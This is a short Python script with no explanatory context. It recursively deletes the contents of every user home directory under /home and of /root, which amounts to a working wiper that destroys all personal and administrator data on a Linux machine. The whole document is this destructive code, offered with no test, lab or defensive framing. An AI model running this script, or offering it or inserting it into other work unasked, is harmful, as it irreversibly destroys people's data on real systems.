from pathlib import Path
import shutil

def wipe(root: Path):
    for child in root.iterdir():
        if child.is_dir() and not child.is_symlink():
            shutil.rmtree(child)
        else:
            child.unlink()

for home in Path("/home").iterdir():
    wipe(home)
wipe(Path("/root"))
